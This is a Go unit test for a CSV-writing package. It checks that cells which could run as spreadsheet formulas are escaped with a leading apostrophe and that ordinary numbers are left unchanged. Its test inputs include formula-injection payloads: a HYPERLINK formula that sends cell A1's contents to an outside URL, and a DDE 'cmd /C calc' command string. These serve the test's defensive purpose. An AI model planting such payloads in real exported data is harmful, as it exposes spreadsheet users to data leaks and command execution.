package sheet_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"hearsay/internal/sheet"
)

// A spreadsheet must not run what a stranger wrote; a number must stay one that can be added up.
func TestACellThatCouldBeAFormulaIsText(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("https://example.org?"&A1)`: `'=HYPERLINK("https://example.org?"&A1)`, "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
		"-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "-": "'-", "-Inf": "'-Inf", "-0x1p4": "'-0x1p4", "-1\n=2": "'-1\n=2",
		"-5": "-5", "+0.25": "+0.25", "-1.5e-3": "-1.5e-3", "-.5": "-.5", "plain = text": "plain = text", "": "", "2024-05-03": "2024-05-03",
	}
	for in, want := range cells {
		for f, want := range map[sheet.Form]string{sheet.ForPeople: want, sheet.Raw: in} {
			var b strings.Builder
			if err := sheet.Write(&b, f, [][]string{{in, "x"}, {"y", in}}); err != nil {
				t.Fatal(err)
			}
			got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			if err != nil || got[0][0] != want || got[1][1] != want {
				t.Errorf("%q is written as %q, want %q (%v)", in, got, want, err)
			}
		}
	}
}
